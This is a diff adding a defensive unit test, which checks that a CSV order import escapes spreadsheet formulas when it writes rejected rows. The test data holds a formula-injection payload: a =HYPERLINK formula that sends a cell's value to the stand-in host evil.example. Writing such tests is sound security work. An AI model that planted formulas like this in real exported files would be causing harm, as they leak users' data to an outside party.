@@ -90,3 +90,19 @@ class RejectsTestCase(TenureTestCase):
         self.assertEqual(rows, [["3", "customer", "c2", reason],
                                 ["4", "date", "2024-03-07", reason]])
         self.assertEqual(Order.objects.get().total, Decimal("1.00"))
+
+    def test_it_writes_no_value_a_spreadsheet_would_run_as_a_formula(self):
+        hyperlink = '=HYPERLINK("http://evil.example/?leak="&C2,"Click me")'
+        path = self.files.text("orders.csv", (
+            'order_id,customer,date,amount,"@note"\n'
+            f'A1,"{hyperlink.replace(chr(34), chr(34) * 2)}",=1+2,-12.50,+380441234567\n'
+        ))
+
+        result = run_import("orders", path, rejects_path=self.files.path("r.csv"))
+
+        self.assertEqual(result.rejected, 1)
+        with self.files.path("r.csv").open(encoding="utf-8-sig", newline="") as source:
+            header, line = list(csv.reader(source))
+        self.assertEqual(header[4:], ["order_id", "customer", "date", "amount", "'@note"])
+        self.assertEqual(line[:4], ["2", "date", "'=1+2", "not a date"])
+        self.assertEqual(line[4:], ["A1", "'" + hyperlink, "'=1+2", "-12.50", "+380441234567"])
